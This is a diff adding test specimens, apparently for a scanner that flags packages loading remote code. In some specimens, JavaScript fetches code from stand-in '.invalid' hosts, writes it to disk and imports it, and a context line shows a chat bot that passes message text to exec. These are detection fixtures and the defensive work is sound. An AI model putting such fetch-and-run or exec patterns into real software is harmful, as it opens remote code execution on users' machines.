@@ -582,6 +582,30 @@ const bot = new Telegraf('x'); bot.on('text', context => exec(context.message.te
       weight: 'proof',
       says: ['hooks.invalid'],
     },
+    {
+      when: 'an answer chooses a file that was written from an answer',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', main: 'index.mjs' },
+        'index.mjs': `import { writeFileSync } from 'node:fs'; export const texts = async () => { const { name, code } = await (await fetch('https://code.invalid/json')).json(); writeFileSync(new URL('./parts/' + name, import.meta.url), code); return import('./parts/' + name); };`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'pages load the rest of a service from its own homepage',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', main: 'index.mjs', homepage: 'https://shellworks.invalid' },
+        'index.mjs': `export const mount = async (name, at) => { const { apps } = await (await fetch('https://parts.shellworks.invalid/apps.json')).json(); return (await import(apps[name].entry)).mount(at); };`,
+      },
+      weight: 'weak',
+    },
+    {
+      when: 'pages load the rest from a host that is not its homepage',
+      files: {
+        'package.json': { name: 'shellworks', version: '1.0.0', main: 'index.mjs', homepage: 'https://pages.invalid/x' },
+        'index.mjs': `export const mount = async (name, at) => { const { apps } = await (await fetch('https://parts.shellworks.invalid/apps.json')).json(); return (await import(apps[name].entry)).mount(at); };`,
+      },
+      weight: 'strong',
+    },
   ],
   silent: [
     {
@@ -758,6 +782,14 @@ ws.onmessage = event => { const message = JSON.parse(event.data); handlers[messa
       when: 'a program writes what it has fetched to the terminal',
       files: {
         'index.js': `const fs = require('fs'); exports.go = async url => { const tty = fs.openSync('/dev/tty', 'w'); fs.writeSync(tty, await (await fetch(url)).text()); require('child_process').spawn('less', ['/dev/tty']); }`,
+      },
+    },
+    {
+      when: 'an answer chooses one of its own files, or a module of one package',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', main: 'index.mjs' },
+        'index.mjs': `export const texts = async () => { const { lang } = await (await fetch('https://geo.invalid/json')).json(); return [await import(\`./locales/${'$'}{lang}.mjs\`), await import('@formats/locales/' + lang)]; };`,
+        'locales/en.mjs': `export default {}`,
       },
     },
   ],
